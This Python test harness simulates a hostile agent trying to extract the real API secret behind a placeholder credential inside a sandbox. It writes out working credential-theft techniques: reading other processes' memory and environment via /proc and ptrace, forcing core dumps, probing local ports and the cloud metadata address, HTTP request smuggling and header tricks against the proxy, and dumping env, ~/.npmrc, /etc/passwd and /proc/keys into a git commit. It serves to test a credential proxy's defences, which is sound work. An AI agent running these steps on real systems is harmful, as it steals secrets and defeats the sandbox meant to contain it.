#!/usr/bin/python3
"""An agent that wants the secrets behind its placeholders (tests/credentials/leak_test.cc). Runs inside.

hostile_agent.py LOOT appends all that it gets hold of to the file LOOT and prints one line for each thing
it tried: what was done, and what came of it.
"""
import base64
import ctypes
import glob
import os
import re
import resource
import signal
import socket
import ssl
import subprocess
import sys
import urllib.parse
import zlib

loot = open(sys.argv[1], "ab", buffering=0)
HOST = "api.good.example"
KEY = os.environ["API_TOKEN"]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
libc.ptrace.restype = ctypes.c_long


def tell(what, came):
    print(f"{what}: {came}", flush=True)


def keep(what, data):
    loot.write(b"\n=== " + what.encode() + b"\n" + data)
    return len(data)


# -- the processes -----------------------------------------------------------------------------

def read_memory(pid):
    got = 0
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory, open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                memory.seek(begin)
                got += keep(f"memory of {pid} {line.strip()}", memory.read(min(end - begin, 1 << 22)))
            except (OSError, OverflowError, ValueError):
                pass
    return got


def look_at_processes():
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    own, others = 0, 0
    for pid in pids:
        for name in ("environ", "cmdline", "maps", "auxv", "stack", "syscall"):
            try:
                keep(f"{pid}/{name}", open(f"/proc/{pid}/{name}", "rb").read())
            except OSError:
                pass
        for link in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                keep(link, os.readlink(link).encode())
            except OSError:
                pass
        try:
            got = read_memory(pid)
        except OSError:
            got = 0
        if pid == os.getpid():
            own += got
        else:
            others += got
    tell("memory of mine", "read" if own > 0 else "closed")
    tell("memory of others", f"{others} bytes of {len(pids) - 1}")
    # The control: the same on a child of ours, until a word that only it has is read.
    word = ctypes.create_string_buffer(b"parents!")
    ready, said = os.pipe()
    child = os.fork()
    if child == 0:
        word[:8] = b"children"
        os.write(said, b"1")
        signal.pause()
    os.read(ready, 1)
    tell("ptrace of mine", traced(child, ctypes.addressof(word)))
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    others = [traced(pid, ctypes.addressof(word)) for pid in pids if pid != os.getpid()]
    tell("ptrace of others", f"{len(others) - others.count('refused')} attached")


def traced(pid, address):
    """What stands at `address` of another process; "refused" if it cannot be attached to."""
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return "refused"
    os.waitpid(pid, 0x40000000)
    word = libc.ptrace(2, pid, address, None)  # PTRACE_PEEKDATA
    libc.ptrace(17, pid, None, None)
    text = word.to_bytes(8, "little", signed=True)
    keep(f"a word of {pid}", text)
    return text.decode("latin1")


def dump_core():
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
    pid = os.fork()
    if pid == 0:
        os.abort()
    os.waitpid(pid, 0)
    dumps = [path for pattern in ("core*", "/tmp/core*", "/var/crash/*") for path in glob.glob(pattern)]
    for path in dumps:
        keep(path, open(path, "rb").read())
        os.unlink(path)
    tell("core", f"{len(dumps)} found")


# -- the listeners -----------------------------------------------------------------------------

DNS = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\3api\4good\7example\0\0\x10\0\1"
NONSENSE = [b"", b"\0" * 600, b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % HOST.encode(), b"GET /secrets HTTP/1.0\r\n\r\n",
            b"GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
            b"CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n", b"TRACE / HTTP/1.1\r\nHost: x\r\nMax-Forwards: 0\r\n\r\n",
            b"\5\1\0", b"\5\1\0\5\1\0\3\x10api.good.example\1\xbb", b"\4\1\0\x50\0\0\0\1a\0api.good.example\0", b"\5\1\2\1\1a\1b",
            len(DNS).to_bytes(2, "big") + DNS, b"\x16\3\1\0\5\1\0\0\1\0", b"SSH-2.0-x\r\n", b"s\4\0\0\0" + b"0" * 40,
            b'{"op":"end"}', b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"A" * 200000]


def everything(stream):
    """What comes until the end; the time only bounds a server that waits for more."""
    out = b""
    try:
        while data := stream.recv(65536):
            out += data
    except OSError:
        pass
    return out


def ask_listeners():
    ports, answered = set(), 0
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        if os.path.exists(path):
            ports |= {int(line.split()[1].rsplit(":", 1)[1], 16) for line in open(path).readlines()[1:] if line.split()[3] == "0A"}
    ports |= {int(found) for value in os.environ.values() for found in re.findall(r"127\.0\.0\.1:(\d+)", value)}
    for port in sorted(ports):
        for words in NONSENSE:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=5) as stream:
                    stream.settimeout(0.3)
                    stream.sendall(words)
                    stream.shutdown(socket.SHUT_WR)
                    got = everything(stream)
                    answered += bool(got)
                    keep(f"listener {port} {words[:20]!r}", got)
            except OSError:
                pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(0.3)
        for server in ("127.0.0.1", "127.0.0.53"):
            try:
                stream.sendto(DNS, (server, 53))
                keep("dns", stream.recv(4096))
            except OSError:
                pass
    tell("listeners", f"{len(ports)}, {answered} answers")


# -- the keyed host ----------------------------------------------------------------------------

def talk(request, host=HOST):
    """`request` as it stands, over TLS through the proxy."""
    proxy = urllib.parse.urlsplit(os.environ["https_proxy"])
    with socket.create_connection((proxy.hostname, proxy.port), timeout=20) as raw:
        raw.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (host.encode(), host.encode()))
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            byte = raw.recv(1)
            if not byte:
                return head
            head += byte
        if b" 200 " not in head:
            return head + everything(raw)
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        with context.wrap_socket(raw, server_hostname=host) as stream:
            stream.sendall(request)
            return everything(stream)


def unpacked(data):
    """What was compressed, alone or as the one chunk of a body."""
    at = data.find(b"\x1f\x8b\x08")
    try:
        return zlib.decompressobj(31).decompress(data[at:]) if at >= 0 else b""
    except zlib.error:
        return b""


def attempt(what, request, host=HOST):
    try:
        got = talk(request, host)
    except OSError as error:
        got = f"{type(error).__name__}".encode()
    keep(what, got + b"\n" + unpacked(got))
    status = re.match(rb"HTTP/1\.[01] (\d+)", got)
    tell(what, status[1].decode() if status else "no answer")
    return got


def line(target, method="GET", fields=(), body=b"", close=True):
    words = [f"{method} {target} HTTP/1.1", f"Host: {HOST}", *fields, *(["Connection: close"] if close else [])]
    return "\r\n".join(words).encode() + b"\r\n\r\n" + body


def ask_reflector():
    for way in ("plain base64 hex reversed half pieces extension trailer header folded name reason cookie location type early behind "
                "bodiless unmodified to-the-end old error gzip gzip-second gzip-transfer").split():
        for place in ("keyed", "query"):
            attempt(f"{place} {way}", line(f"/{place}/{way}"))
    for way in ("plain", "header", "location", "error"):
        for method in ("HEAD", "TRACE", "OPTIONS", "POST"):
            attempt(f"{method} {way}", line(f"/query/{way}", method, ["Content-Length: 0"]))
    pieces = b""
    for first in range(0, 400, 11):  # less than what is recognised, and put together here
        got = attempt(f"range {first}", line("/keyed/range", fields=[f"Range: bytes={first}-{first + 10}"]))
        pieces += got.partition(b"\r\n\r\n")[2] if b" 206 " in got[:20] else b""
    keep("ranges put together", pieces)
    attempt("ranges", line("/keyed/range", fields=["Range: bytes=-200", "Accept-Encoding: gzip"]))
    # What the host remembers of a request with the secret, asked where none is sent.
    attempt("keep", line("/keyed/keep"))
    attempt("kept here", line("/public/kept"))
    attempt("kept elsewhere", line("/public/kept").replace(HOST.encode(), b"web.good.example"), "web.good.example")


def ask_oddly():
    chunked = "Transfer-Encoding: chunked"
    attempt("connection names authorization", line("/keyed/plain", fields=["Connection: authorization, host, x-api-key"]))
    attempt("own key", line("/keyed/keep", fields=["Authorization: Bearer of-the-attacker-0", "X-Api-Key: of-the-attacker-1"]))
    attempt("own key in the query", line("/query/keep?key=of-the-attacker-2&K%65y=of-the-attacker-3&q=1"))
    attempt("own key in a trailer", line("/keyed/keep", "POST", [chunked, "Trailer: Authorization"],
                                         b"2\r\nhi\r\n0\r\nAuthorization: Bearer of-the-attacker-4\r\n\r\n"))
    attempt("trailer", line("/keyed/plain", "POST", [chunked], b"2\r\nhi\r\n0\r\nX-Seen: yes\r\n\r\n"))
    attempt("extension of a chunk", line("/keyed/plain", "POST", [chunked], b"2;x=" + b"y" * 5000 + b"\r\nhi\r\n0\r\n\r\n"))
    attempt("expect", line("/keyed/plain", "POST", ["Expect: 100-continue", "Content-Length: 2"], b"hi"))
    attempt("two hosts", line("/keyed/plain", fields=["Host: web.good.example"]))
    attempt("folded host", line("/keyed/plain", fields=["X-A: b", " Host: web.good.example"]))
    attempt("folded authorization", line("/keyed/plain", fields=["Authorization:", " Bearer of-the-attacker-5"]))
    attempt("two lengths", line("/keyed/plain", "POST", ["Content-Length: 2", "Content-Length: 3"], b"hi!"))
    attempt("length and chunks", line("/keyed/plain", "POST", ["Content-Length: 2", chunked], b"0\r\n\r\n"))
    attempt("100k of fields", line("/keyed/plain", fields=[f"X-{n}: {'y' * 990}" for n in range(100)]))
    attempt("60k of fields", line("/keyed/plain", fields=[f"X-{n}: {'y' * 990}" for n in range(60)]))
    attempt("bare line feeds", line("/keyed/plain").replace(b"\r\n", b"\n"))
    attempt("old client", b"GET /keyed/plain HTTP/1.0\r\nHost: %s\r\n\r\n" % HOST.encode())
    attempt("absolute target", line(f"https://{HOST}/keyed/plain"))
    attempt("absolute target elsewhere", line("https://web.good.example/keyed/plain"))
    attempt("dots", line("/public/../keyed/plain"))
    attempt("escaped dots", line("/keyed/%2e%2e/keyed/plain"))
    attempt("two at once", line("/keyed/keep", close=False) + line("/keyed/plain"))
    attempt("smuggled", line("/keyed/keep", "POST", ["Content-Length: 0"], close=False) + line("/public/kept"))
    upgrade = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + "x" * 22 + "=="]
    attempt("websocket", line("/keyed/upgrade", fields=upgrade, close=False))
    attempt("websocket unasked", line("/keyed/upgrade"))
    attempt("other upgrade", line("/keyed/upgrade", fields=["Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings"], close=False))
    # The placeholder in disguise: whatever arrives, it must not have become the secret.
    half = len(KEY) // 2
    encoded = urllib.parse.quote(KEY).replace("-", "%2d")
    attempt("placeholder in two fields", line("/public/p1", fields=[f"X-A: {KEY[:half]}", f"X-B: {KEY[half:]}"]))
    attempt("placeholder escaped", line(f"/public/p2?x={encoded}"))
    attempt("placeholder in base64", line("/public/p3", fields=["X-A: " + base64.b64encode(KEY.encode()).decode()]))
    attempt("placeholder in a cookie", line("/public/p4", fields=[f"Cookie: a={KEY}"]))
    attempt("placeholder in a websocket", line("/public/p5", fields=[*upgrade, f"X-A: {KEY}"], close=False))
    attempt("placeholder in the path", line(f"/public/{KEY}"))
    attempt("placeholder in an absolute target", line(f"https://{HOST}/public/{KEY}"))
    attempt("placeholder in a trailer", line("/keyed/keep", "POST", [chunked], f"2\r\nhi\r\n0\r\nX-A: {KEY}\r\n\r\n".encode()))
    attempt("placeholder in an extension", line("/keyed/keep", "POST", [chunked], f"2;x={KEY}\r\nhi\r\n0\r\n\r\n".encode()))
    attempt("placeholder as the host", line("/public/p6").replace(HOST.encode(), KEY.encode()), HOST)


# -- the way out -------------------------------------------------------------------------------

def spread():
    """Whatever was caught goes into a commit, names, and both streams."""
    subprocess.run("env > env.txt; cat ~/.npmrc > npmrc.txt; git add -A; "
                   "git -c user.name=A -c user.email=a@good.example commit -qm \"$API_TOKEN\"; env >&2; git config --list --show-origin",
                   shell=True, check=False)
    for path in ("/etc/passwd", "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/net/unix", "/proc/keys", "/proc/kmsg", "/proc/kcore"):
        try:
            keep(path, open(path, "rb").read(1 << 20))
        except OSError:
            pass


look_at_processes()
dump_core()
ask_listeners()
ask_reflector()
ask_oddly()
spread()
look_at_processes()
tell("done", os.path.getsize(sys.argv[1]) > 100000)
